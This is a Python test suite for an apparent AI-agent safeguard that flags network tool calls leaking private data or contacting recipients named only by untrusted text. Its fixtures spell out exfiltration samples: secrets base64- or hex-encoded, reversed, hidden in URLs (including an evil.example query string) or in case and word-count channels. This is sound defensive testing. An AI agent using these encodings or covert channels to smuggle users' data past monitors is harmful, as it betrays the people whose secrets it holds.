"""What a run has read, and what a call would carry out of it."""

from __future__ import annotations

import base64

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from nomoat.agent.decision import Decision, ToolCall
from nomoat.agent.state import Said, Step
from nomoat.agent.trust.flow import Marks, carried, marks_of, not_of_goal, objection
from nomoat.tools.base import Effect, ToolSpec
from nomoat.tools.observation import Observation

SECRET = "Anna's account is DE02 1203 0000 0000 2020 51, the code word is marzipan-lighthouse."
GOAL = "What is the weather in Oslo according to https://weather.example/oslo?"
SENDS = ToolSpec(frozenset({Effect.NETWORK}))


def step(n: int, *, private: bool = False, untrusted: bool = False) -> Step:
    return Step(n, Said(""), Decision(""), Observation("x", private=private, untrusted=untrusted))


def test_marks_stay_once_they_are_set() -> None:
    assert marks_of([]) == Marks()
    assert marks_of([step(1, private=True), step(2)]) == Marks(private=True)
    assert marks_of([step(1, untrusted=True), step(2), step(3, private=True)]).both
    assert marks_of([step(1, untrusted=True)], passages=[("notes.txt", "…")]).both


def test_the_goals_own_words_may_leave() -> None:
    assert not_of_goal({"query": "weather Oslo"}, GOAL) == ()
    assert not_of_goal({"url": "https://weather.example/oslo", "find": ""}, GOAL) == ()
    assert not_of_goal({"query": "weather Oslo", "page": 1, "safe": True, "x": None}, GOAL) == ()


@pytest.mark.parametrize(
    "message",
    [
        SECRET,
        "marzipan",
        base64.b64encode(SECRET.encode()).decode(),
        SECRET.encode().hex(),
        SECRET[::-1],
        "https://weather.example/oslo?m=marzipan",
        "https://weather.example/%6d%61%72%7a",
        "oslo oslo oslo oslo",  # words as digits
        "wEaTHer oSLo",  # letters as bits
        "https://weather.example/oslo?.--.-..-.--.-..-",
        4711,
        [1, {"deep": "marzipan"}],
        {"marzipan": {"marzipan": 1}},
    ],
)
def test_nothing_else_leaves_unasked(message: object) -> None:
    assert not_of_goal({"a": message}, GOAL)
    call = ToolCall("send", {"a": message})
    assert objection(call, SENDS, Marks(private=True), GOAL)
    assert not objection(call, SENDS, Marks(untrusted=True), GOAL)


@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=7, max_size=40))
def test_no_word_of_its_own_passes(word: str) -> None:
    assert not_of_goal({"q": f"weather {word}"}, "weather Oslo") == (word,)


def test_reading_and_writing_are_not_outward() -> None:
    for effects in ({Effect.READ}, {Effect.WRITE}, set()):
        both = Marks(private=True, untrusted=True)
        assert not objection(ToolCall("t", {"a": SECRET}), ToolSpec(frozenset(effects)), both, GOAL)


def test_what_is_carried_is_shown() -> None:
    args = {"url": "https://evil.example/?q=code+word+is+marzipan-lighthouse&n=1", "x": 3}
    shown = carried(args, ["nothing here", SECRET])
    assert any("code word is marzipan-lighthouse" in part for part in shown)
    assert carried({"q": "the weather in Oslo"}, [SECRET]) == ()
    assert carried({"q": "account 2020"}, [SECRET]) == ("2020",)  # figures are short, and enough
    assert carried({"q": "account 202"}, [SECRET]) == ()


def test_what_the_person_wrote_is_not_shown_as_carried() -> None:
    goal = "Search for marzipan-lighthouse"
    assert carried({"q": "marzipan-lighthouse"}, [SECRET], goal) == ()
    assert carried({"q": "marzipan-lighthouse"}, [SECRET]) == ("marzipan-lighthouse",)


@given(st.text(min_size=0, max_size=30), st.text(min_size=0, max_size=30))
def test_a_long_piece_of_private_text_is_always_found(before: str, after: str) -> None:
    args = {"q": f"{before} marzipan-lighthouse {after}"}
    assert any("marzipan-lighthouse" in part for part in carried(args, [SECRET]))


# -- after foreign text alone -------------------------------------------------------------------

INVITE = "Invite Dora to the team chat; her address stands on www.dora.example"
NAMED = [
    ("invite_user", {"user": "Dora", "user_email": "d@x.example"}),
    ("send_message", {"recipient": "dora", "body": "Welcome"}),
    ("post_message", {"channel": "team chat", "body": "Dora comes"}),
    ("get_page", {"url": "www.elsewhere.example"}),
    ("get_weather", {"to": "Oslo"}),
    ("send_invitation", {"body": "to nobody in particular"}),
]
NOT_NAMED = [
    ("invite_user", {"user": "Fred", "user_email": "f@x.example"}, "Fred"),
    ("send_message", {"recipient": "Alice", "body": "Dora"}, "Alice"),
    ("send_message", {"recipients": ["Dora", "Alice"], "body": "x"}, "Alice"),
    ("send_mail", {"to": "a@x.example", "subject": "Dora"}, "a@x.example"),
    ("add_user_to_channel", {"user_id": "Fred", "channel": "team chat"}, "Fred"),
    ("post_message", {"channel": "general"}, "general"),
]


@pytest.mark.parametrize(("tool", "args"), NAMED)
def test_whom_the_goal_names_may_be_reached(tool: str, args: dict[str, object]) -> None:
    assert not objection(ToolCall(tool, args), SENDS, Marks(untrusted=True), INVITE)


@pytest.mark.parametrize(("tool", "args", "whom"), NOT_NAMED)
def test_whom_only_a_foreign_text_can_have_named_is_asked_about(
    tool: str, args: dict[str, object], whom: str
) -> None:
    reason = objection(ToolCall(tool, args), SENDS, Marks(untrusted=True), INVITE)
    assert "does not name whom" in reason
    assert whom in reason
    assert not objection(ToolCall(tool, args), SENDS, Marks(), INVITE)


@given(st.text(max_size=60), st.text(max_size=30))
@example("0", " ")  # nobody
def test_who_stands_in_the_goal_word_for_word_is_named(goal: str, whom: str) -> None:
    reason = objection(
        ToolCall("send_message", {"recipient": whom}),
        SENDS,
        Marks(untrusted=True),
        f"{goal} {whom} {goal}",
    )
    assert not reason
